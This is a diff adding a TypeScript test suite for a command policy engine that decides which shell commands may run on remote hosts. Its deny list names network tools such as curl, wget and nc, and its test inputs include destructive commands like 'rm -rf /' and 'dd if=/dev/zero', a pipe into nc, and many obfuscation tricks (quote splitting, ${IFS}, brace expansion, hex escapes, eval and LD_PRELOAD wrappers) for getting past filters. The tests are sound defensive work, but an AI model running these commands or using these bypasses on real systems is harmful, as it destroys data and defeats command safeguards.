@@ -1,0 +1,326 @@
+import { describe, it, expect } from 'vitest';
+import { DEFAULT_LIMITS, policyFileSchema } from '../../src/config/schema.js';
+import { PolicyEngine } from '../../src/policy/engine.js';
+import type { PolicyTarget } from '../../src/policy/engine.js';
+import { parseCommand } from '../../src/policy/command-parse.js';
+import { normalizeSegment, shellWords } from '../../src/policy/normalize.js';
+
+/** A realistic policy, modelled on the Python project's example-policy.yml. */
+const policy = policyFileSchema.parse({
+  limits: {
+    max_seconds: 45,
+    max_output_bytes: 500_000,
+    deny_substrings: ['rm -rf /', 'mkfs ', 'dd if=/dev/zero', 'shutdown*', 'reboot', 'curl ', 'wget ', 'nc '],
+  },
+  rules: [
+    {
+      name: 'read-only',
+      action: 'allow',
+      commands: [
+        'uptime*',
+        'df -h*',
+        'hostname',
+        'whoami',
+        'systemctl status *',
+        'cat /var/log/*',
+        'ls*',
+        'echo *',
+        'sleep *',
+        'grep *',
+      ],
+    },
+    { id: 'web-restart', action: 'allow', tags: ['web'], commands: ['systemctl restart nginx'] },
+    { name: 'staging-sudo', action: 'allow', aliases: ['stg-*'], commands: ['sudo systemctl restart *'] },
+    { action: 'allow', aliases: ['db-?'], commands: ['pg_isready*'] },
+    { name: 'templating', action: 'allow', allow_substitution: true, commands: ['echo *', 'cat <<*'] },
+    { name: 'no-rm', action: 'deny', commands: ['rm *', 'chmod 777*'] },
+    { name: 'prod-no-sleep', action: 'deny', aliases: ['prod-*'], commands: ['sleep *'] },
+    { name: 'web-no-stop', action: 'deny', tags: ['web'], commands: ['systemctl stop *'] },
+  ],
+  overrides: {
+    tags: { production: { max_seconds: 30 }, longrun: { max_seconds: 180, task_result_ttl: 1800 } },
+    aliases: { 'prod-web-1': { max_seconds: 20 } },
+  },
+});
+
+const engine = new PolicyEngine(policy);
+
+const dev: PolicyTarget = { alias: 'dev-1', tags: [] };
+const web: PolicyTarget = { alias: 'prod-web-1', tags: ['web', 'production'] };
+const stg: PolicyTarget = { alias: 'stg-app-1', tags: ['staging'] };
+const db1: PolicyTarget = { alias: 'db-1', tags: ['db'] };
+const db12: PolicyTarget = { alias: 'db-12', tags: ['db'] };
+
+type Row = [what: string, target: PolicyTarget, command: string, allowed: boolean, rule: string, bypass: boolean];
+
+const rows: Row[] = [
+  // Plain allowed commands.
+  ['simple allowed', dev, 'uptime', true, 'read-only', false],
+  ['glob with arguments', dev, 'uptime -p', true, 'read-only', false],
+  ['df -h with path', dev, 'df -h /', true, 'read-only', false],
+  ['exact pattern', dev, 'hostname', true, 'read-only', false],
+  ['exact pattern rejects extra arguments', dev, 'hostname -I', false, 'default_deny', false],
+  ['systemctl status', dev, 'systemctl status nginx', true, 'read-only', false],
+  ['cat under /var/log', dev, 'cat /var/log/syslog', true, 'read-only', false],
+  ['cat outside /var/log', dev, 'cat /etc/shadow', false, 'default_deny', false],
+  ['ls with flags', dev, 'ls -la /etc', true, 'read-only', false],
+  ['grep', dev, 'grep -i error /var/log/syslog', true, 'read-only', false],
+  ['surrounding whitespace', dev, '  uptime  ', true, 'read-only', false],
+  ['trailing newline', dev, 'uptime\n', true, 'read-only', false],
+  ['unknown command', dev, 'apt-get install nginx', false, 'default_deny', false],
+
+  // Chains: every segment must be allowed.
+  ['allowed && chain', dev, 'uptime && df -h', true, 'read-only', false],
+  ['allowed ; chain', dev, 'uptime; whoami', true, 'read-only', false],
+  ['allowed pipe', dev, 'ls -la | grep conf', true, 'read-only', false],
+  ['redirection ampersand is not a separator', dev, 'ls 2>&1 | grep x', true, 'read-only', false],
+  ['chain with denied substring', dev, 'uptime; rm -rf /', false, 'deny_substrings', false],
+  ['&& reboot', dev, 'uptime && reboot', false, 'deny_substrings', false],
+  ['pipe into nc', dev, 'ls | nc evil 1', false, 'deny_substrings', false],
+  ['background & then wget', dev, 'uptime & wget x', false, 'deny_substrings', false],
+  ['newline then shutdown (glob)', dev, 'uptime\nshutdown -h now', false, 'deny_substrings', false],
+  ['|| into unknown command', dev, 'uptime || passwd root', false, 'default_deny', false],
+  ['newline into unknown command', dev, 'uptime\nuserdel bob', false, 'default_deny', false],
+  ['chain across rules', web, 'ls; systemctl restart nginx', true, 'read-only, web-restart', false],
+  ['subshell parentheses are not understood, so not allowed', dev, '(uptime)', false, 'default_deny', false],
+
+  // Quoted or escaped separators do not split.
+  ['quoted ; inside echo', dev, 'echo "a;b"', true, 'read-only', false],
+  ['single-quoted && and |', dev, "echo 'a && b | c'", true, 'read-only', false],
+  ['escaped ;', dev, 'echo a\\;b', true, 'read-only', false],
+  ['here-string is plain input', dev, 'grep x <<< "hello"', true, 'read-only', false],
+  ['quote tricks on a harmless command still allow it', dev, "ec'h'o hi", true, 'read-only', false],
+
+  // Deny substrings in their plain form: no bypass.
+  ['rm -rf /', dev, 'rm -rf /', false, 'deny_substrings', false],
+  ['dd from /dev/zero', dev, 'dd if=/dev/zero of=/dev/sda', false, 'deny_substrings', false],
+  ['mkfs', dev, 'mkfs /dev/sda1', false, 'deny_substrings', false],
+  ['shutdown glob', dev, 'shutdown', false, 'deny_substrings', false],
+  ['curl', dev, 'curl http://example.com', false, 'deny_substrings', false],
+  [
+    'substring is blunt: allowed command mentioning reboot',
+    dev,
+    'grep reboot /var/log/syslog',
+    false,
+    'deny_substrings',
+    false,
+  ],
+  ['quoted whole word still contains the text', dev, '"reboot"', false, 'deny_substrings', false],
+  ['absolute path contains the text', dev, '/usr/sbin/reboot', false, 'deny_substrings', false],
+  ['absolute rm path contains the text', dev, '/bin/rm -rf /', false, 'deny_substrings', false],
+  ['escaped command word: raw text still contains the pattern', dev, '\\rm -rf /', false, 'deny_substrings', false],
+  ['sudo reboot', dev, 'sudo reboot', false, 'deny_substrings', false],
+  ['deny substrings are case-insensitive', dev, 'REBOOT', false, 'deny_substrings', false],
+
+  // Bypass attempts caught only after normalisation.
+  ["empty quotes r''m", dev, "r''m -rf /", false, 'deny_substrings', true],
+  ['double-quoted letter "r"m', dev, '"r"m -rf /', false, 'deny_substrings', true],
+  ['${IFS}', dev, 'rm${IFS}-rf${IFS}/', false, 'deny_substrings', true],
+  ['$IFS', dev, 'rm$IFS-rf$IFS/', false, 'deny_substrings', true],
+  ['tab instead of space', dev, 'rm\t-rf /', false, 'deny_substrings', true],
+  ['repeated spaces', dev, 'rm  -rf   /', false, 'deny_substrings', true],
+  ["re''boot", dev, "re''boot", false, 'deny_substrings', true],
+  ["w'g'et", dev, "w'g'et http://x", false, 'deny_substrings', true],
+  ['escaped n\\c', dev, 'n\\c evil 1', false, 'deny_substrings', true],
+  ['brace expansion', dev, '{rm,-rf,/}', false, 'deny_substrings', true],
+  ["ANSI-C $'\\x72\\x6d'", dev, "$'\\x72\\x6d' -rf /", false, 'deny_substrings', true],
+  ['second segment obfuscated', dev, 'ls; r""eboot', false, 'deny_substrings', true],
+  ['positional parameters expand to nothing', dev, 'rm -rf $1/', false, 'deny_substrings', true],
+
+  // Deny rules win over allow rules, and see through paths and wrappers.
+  ['deny rule', dev, 'rm -r /tmp/x', false, 'no-rm', false],
+  ['deny rule second pattern', dev, 'chmod 777 /etc/passwd', false, 'no-rm', false],
+  ['deny rule in a later segment', dev, 'uptime; rm -r /tmp/x', false, 'no-rm', false],
+  ['deny rules are case-insensitive', dev, 'RM -r /tmp/x', false, 'no-rm', false],
+  ['deny rule through absolute path', dev, '/bin/rm -r /tmp/x', false, 'no-rm', true],
+  ['deny rule through ../ path', dev, '/usr/bin/../bin/rm -r /tmp/x', false, 'no-rm', true],
+  ['deny rule through ./ path', dev, './rm -r /tmp/x', false, 'no-rm', true],
+  ['deny rule through sudo', dev, 'sudo -u root rm -r /tmp/x', false, 'no-rm', true],
+  ['deny rule through env and assignments', dev, 'env FOO=1 rm -r /tmp/x', false, 'no-rm', true],
+  ['deny rule through timeout', dev, 'timeout 5 rm -r /tmp/x', false, 'no-rm', true],
+  ['deny rule through bash -c', dev, "bash -c 'rm -r /tmp/x'", false, 'no-rm', true],
+  ['deny rule through eval', dev, 'eval "rm -r /tmp/x"', false, 'no-rm', true],
+  ['deny rule through find -exec', dev, 'find /tmp -exec rm {} +', false, 'no-rm', true],
+  ['alias-scoped deny beats allow', web, 'sleep 5', false, 'prod-no-sleep', false],
+  ['alias-scoped deny does not apply elsewhere', dev, 'sleep 5', true, 'read-only', false],
+  ['tag-scoped deny', web, 'systemctl stop nginx', false, 'web-no-stop', false],
+  ['tag-scoped deny elsewhere falls to default deny', dev, 'systemctl stop nginx', false, 'default_deny', false],
+
+  // Substitutions and here-docs.
+  ['$(...) without allow_substitution', dev, 'ls $(pwd)', false, 'command_substitution', false],
+  ['backticks without allow_substitution', dev, 'ls `pwd`', false, 'command_substitution', false],
+  ['process substitution', dev, 'cat <(ls)', false, 'command_substitution', false],
+  ['output process substitution', dev, 'ls >(cat)', false, 'command_substitution', false],
+  ['here-doc without allow_substitution', dev, 'grep x <<EOF\nhello\nEOF', false, 'command_substitution', false],
+  ['here-doc with allow_substitution', dev, 'cat <<EOF\nhello\nEOF', true, 'templating', false],
+  ['here-doc body is data, not commands', dev, 'cat <<-EOF\n\tuserdel bob\n\tEOF', true, 'templating', false],
+  ['$(...) with allow_substitution', dev, 'echo $(hostname)', true, 'templating', false],
+  ['$(...) inside double quotes', dev, 'echo "up: $(uptime)"', true, 'templating', false],
+  ['$(...) inside single quotes is literal', dev, "echo '$(id)'", true, 'read-only', false],
+  ['command inside allowed substitution must be allowed', dev, 'echo $(id)', false, 'default_deny', false],
+  ['deny rule inside substitution', dev, 'echo $(rm -r /tmp/x)', false, 'no-rm', false],
+  ['expanding here-doc body runs substitutions', dev, 'cat <<EOF\n$(id)\nEOF', false, 'default_deny', false],
+  ['quoted here-doc delimiter: no expansion', dev, "cat <<'EOF'\n$(id)\nEOF", true, 'templating', false],
+  ['arithmetic $((...)) is treated as substitution', dev, 'echo $((1+2))', false, 'default_deny', false],
+
+  // Unparseable, empty and control characters.
+  ['unterminated double quote', dev, 'echo "unterminated', false, 'parse_error', false],
+  ['unterminated single quote', dev, "echo 'unterminated", false, 'parse_error', false],
+  ['unterminated $(', dev, 'echo $(uptime', false, 'parse_error', false],
+  ['unterminated backtick', dev, 'echo `uptime', false, 'parse_error', false],
+  ['unterminated here-doc', dev, 'cat <<EOF\nno end line', false, 'parse_error', false],
+  ['empty', dev, '', false, 'empty_command', false],
+  ['whitespace only', dev, '  \t \n ', false, 'empty_command', false],
+  ['separators only', dev, ';;', false, 'empty_command', false],
+  ['NUL byte', dev, 'uptime\u0000', false, 'parse_error', false],
+  ['carriage return', dev, 'uptime\r', false, 'parse_error', false],
+  ['escape sequence', dev, 'uptime\u001b[31m', false, 'parse_error', false],
+
+  // Case sensitivity, paths and wrappers on the allow side.
+  ['allow rules are case-sensitive', dev, 'UPTIME', false, 'default_deny', false],
+  ['system bin path is allowed by file name', dev, '/usr/bin/uptime', true, 'read-only', false],
+  ['../ inside a system bin path', dev, '/usr/bin/../bin/uptime', true, 'read-only', false],
+  ['./ binary does not borrow an allowed name', dev, './uptime', false, 'default_deny', false],
+  ['/tmp binary does not borrow an allowed name', dev, '/tmp/uptime', false, 'default_deny', false],
+  ['sudo is not stripped into an allowed command', dev, 'sudo uptime', false, 'default_deny', false],
+  ['env is not stripped into an allowed command', dev, 'env LD_PRELOAD=/tmp/x.so uptime', false, 'default_deny', false],
+  ['assignment prefix is not stripped', dev, 'FOO=bar uptime', false, 'default_deny', false],
+
+  // Tag- and alias-scoped allow rules.
+  ['tag-scoped allow on the right host (rule id)', web, 'systemctl restart nginx', true, 'web-restart', false],
+  ['tag-scoped allow on the wrong host', dev, 'systemctl restart nginx', false, 'default_deny', false],
+  ['alias glob stg-* with sudo named in the rule', stg, 'sudo systemctl restart app', true, 'staging-sudo', false],
+  ['alias glob on a non-matching alias', dev, 'sudo systemctl restart app', false, 'default_deny', false],
+  ['alias glob db-? (unnamed rule)', db1, 'pg_isready -h localhost', true, 'rules[3]', false],
+  ['? matches exactly one character', db12, 'pg_isready -h localhost', false, 'default_deny', false],
+];
+
+describe('PolicyEngine.decide — command table', () => {
+  it('has a substantial table', () => {
+    expect(rows.length).toBeGreaterThanOrEqual(60);
+  });
+
+  it.each(rows)('%s: %j', (_what, target, command, allowed, rule, bypass) => {
+    const decision = engine.decide(target, command);
+    expect({ allowed: decision.allowed, rule: decision.rule, bypass: decision.bypass !== undefined }).toEqual({
+      allowed,
+      rule,
+      bypass,
+    });
+    expect(decision.reason.length).toBeGreaterThan(0);
+  });
+});
+
+describe('PolicyEngine.decide — decision details', () => {
+  it('reports the bypass with the original, the normalised form and the pattern', () => {
+    const decision = engine.decide(dev, "r''m -rf /");
+    expect(decision.bypass).toEqual({
+      original_command: "r''m -rf /",
+      normalized_command: 'rm -rf /',
+      blocked_pattern: 'rm -rf /',
+    });
+    expect(decision.reason).toContain("'rm -rf /'");
+  });
+
+  it('names the deny rule glob as the blocked pattern', () => {
+    const decision = engine.decide(dev, '/bin/rm -r /tmp/x');
+    expect(decision.bypass).toMatchObject({ normalized_command: 'rm -r /tmp/x', blocked_pattern: 'rm *' });
+    expect(decision.reason).toContain('rm *');
+  });
+
+  it('lists the normalised segments it checked', () => {
+    expect(engine.decide(dev, "uptime &&  l's' -la | grep\tconf").segments).toEqual(['uptime', 'ls -la', 'grep conf']);
+  });
+
+  it('names the segment that no rule allows', () => {
+    const decision = engine.decide(dev, 'uptime; passwd root');
+    expect(decision.reason).toContain("'passwd root'");
+  });
+
+  it('denies everything when there are no rules', () => {
+    const empty = new PolicyEngine(policyFileSchema.parse({}));
+    expect(empty.decide(dev, 'uptime')).toMatchObject({ allowed: false, rule: 'default_deny' });
+  });
+
+  it('is pure: the same input gives the same decision', () => {
+    expect(engine.decide(web, 'ls; systemctl restart nginx')).toEqual(
+      engine.decide(web, 'ls; systemctl restart nginx'),
+    );
+  });
+});
+
+describe('PolicyEngine.limitsFor', () => {
+  it('returns DEFAULT_LIMITS for an empty policy', () => {
+    expect(new PolicyEngine(policyFileSchema.parse({})).limitsFor(dev)).toEqual(DEFAULT_LIMITS);
+  });
+
+  it('applies policy.limits over the defaults', () => {
+    expect(engine.limitsFor(dev)).toEqual({ ...DEFAULT_LIMITS, max_seconds: 45, max_output_bytes: 500_000 });
+  });
+
+  it('applies tag overrides in the order of the host tags', () => {
+    expect(engine.limitsFor({ alias: 'x', tags: ['production'] }).max_seconds).toBe(30);
+    expect(engine.limitsFor({ alias: 'x', tags: ['production', 'longrun'] })).toMatchObject({
+      max_seconds: 180,
+      task_result_ttl: 1800,
+    });
+    expect(engine.limitsFor({ alias: 'x', tags: ['longrun', 'production'] })).toMatchObject({
+      max_seconds: 30,
+      task_result_ttl: 1800,
+    });
+  });
+
+  it('lets the alias override win over tag overrides', () => {
+    expect(engine.limitsFor({ alias: 'prod-web-1', tags: ['production', 'longrun'] })).toEqual({
+      max_seconds: 20,
+      max_output_bytes: 500_000,
+      task_result_ttl: 1800,
+      task_progress_interval: DEFAULT_LIMITS.task_progress_interval,
+    });
+  });
+
+  it('ignores tags that only exist on Object.prototype', () => {
+    expect(engine.limitsFor({ alias: 'toString', tags: ['constructor', '__proto__'] }).max_seconds).toBe(45);
+  });
+});
+
+describe('command-parse', () => {
+  it('splits on every separator outside quotes', () => {
+    const parsed = parseCommand('a; b && c || d | e & f\ng |& h');
+    expect(parsed.ok && parsed.segments.map((s) => s.raw)).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']);
+  });
+
+  it('keeps &> and >& redirections in their segment', () => {
+    const parsed = parseCommand('ls &>/dev/null; ls 2>&1');
+    expect(parsed.ok && parsed.segments.map((s) => s.raw)).toEqual(['ls &>/dev/null', 'ls 2>&1']);
+  });
+
+  it('returns the commands inside substitutions as nested command lines', () => {
+    const parsed = parseCommand('echo $(uptime; id) `whoami` "$(hostname)"');
+    expect(parsed.ok && parsed.segments[0]?.nested).toEqual(['uptime; id', 'whoami', 'hostname']);
+  });
+
+  it('does not split a here-doc body into segments', () => {
+    const parsed = parseCommand('cat <<EOF | grep x\nreboot; rm -rf /\nEOF\nuptime');
+    expect(parsed.ok && parsed.segments.map((s) => s.raw)).toEqual(['cat <<EOF', 'grep x', 'uptime']);
+  });
+});
+
+describe('normalize', () => {
+  it('removes quotes and escapes as the shell does', () => {
+    expect(shellWords(`a'b c'd "e\\"f" \\g $'x\\ty'`)).toEqual(['ab cd', 'e"f', 'g', 'x\ty']);
+  });
+
+  it('expands unquoted braces only', () => {
+    expect(shellWords("{a,b}c '{d,e}'")).toEqual(['ac', 'bc', '{d,e}']);
+  });
+
+  it('reduces the command word to its file name for deny checks', () => {
+    expect(normalizeSegment('/usr/bin/../bin/rm   -rf\t/')).toBe('rm -rf /');
+    expect(normalizeSegment('./rm x')).toBe('rm x');
+  });
+
+  it('turns ${PATH:0:1} into a slash', () => {
+    expect(normalizeSegment('rm -rf ${PATH:0:1}')).toBe('rm -rf /');
+  });
+});
